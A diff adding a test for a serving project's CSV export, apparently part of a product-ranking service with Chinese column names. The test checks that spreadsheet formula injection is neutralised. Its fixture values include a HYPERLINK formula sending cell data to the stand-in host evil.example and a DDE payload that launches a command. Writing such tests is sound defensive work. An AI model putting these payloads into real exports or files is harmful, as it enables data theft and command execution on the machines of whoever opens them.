@@ -302,3 +302,18 @@ def test_the_document_lists_the_served_model_s_categories_and_tiers(client, serv
     assert params["category"]["enum"] == serving.ranker.categories
     params = {p["name"]: p["schema"] for p in doc["paths"]["/v1/products/{product_id}/anchors"]["get"]["parameters"]}
     assert params["tier"]["enum"] == serving.ranker.tiers
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text():
+    from serve.export import to_csv
+
+    items = [{"rank": 1, "score": -0.5, "product": {"title": '=HYPERLINK("http://evil.example/?x="&A1,"点我领券")'},
+              "anchor": {"name": "@SUM(1+1)*cmd|' /C calc'!A0"}, "reasons": [{"text": "+1 好评"}]},
+             {"rank": 2, "score": 1.0, "product": {"title": "- 正常 标题"}, "anchor": {"name": "小美"},
+              "reasons": [{"text": "好"}]}]
+    rows = list(csv.reader(io.StringIO(to_csv(items).decode("utf-8-sig"))))
+    by_column = {name: [row[i] for row in rows[1:]] for i, name in enumerate(rows[0])}
+    assert by_column["商品标题"] == ['\'=HYPERLINK("http://evil.example/?x="&A1,"点我领券")', "'- 正常 标题"]
+    assert by_column["主播昵称"] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "小美"]
+    assert by_column["推荐理由"] == ["'+1 好评", "好"]
+    assert by_column["得分"] == ["-0.5", "1"]  # numbers stay numbers
